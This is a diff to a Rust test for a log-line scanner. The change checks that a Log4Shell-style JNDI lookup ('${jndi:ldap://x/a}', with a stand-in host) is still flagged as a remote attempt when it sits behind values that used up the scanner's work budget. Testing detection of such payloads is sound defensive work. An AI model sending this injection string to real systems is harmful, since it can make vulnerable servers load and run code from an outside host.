@@ -147,8 +147,12 @@ fn hostile_lines_cost_a_bounded_amount_of_work() {
     let found = field_attempt("query", &text, Escape::Apache, &mut spent);
     assert_eq!(found.map(|found| found.verdict.as_str()), Some("attempt/over-limit"));
     assert!(spent < crate::lookup::EVAL_WORK_MAX + 100_000, "{spent}");
-    // A payload behind a value that used up the work is not called benign.
+    // A payload behind a value that used up the work is seen all the same.
     let values = format!("/?a={nested}&b={nested}&c=${{jndi:ldap://x/a}}");
+    let verdict = seen(&line(&values, "-", "-", "-")).map(|(verdict, _, _)| verdict);
+    assert_eq!(verdict, Some("effective/remote"));
+    // One in a value as long as the junk is at least not called benign.
+    let values = format!("/?a={nested}&b={nested}&c={nested}${{jndi:ldap://x/a}}");
     let verdict = seen(&line(&values, "-", "-", "-")).map(|(verdict, _, _)| verdict);
     assert!(verdict.is_some_and(|verdict| verdict != "benign"));
 }
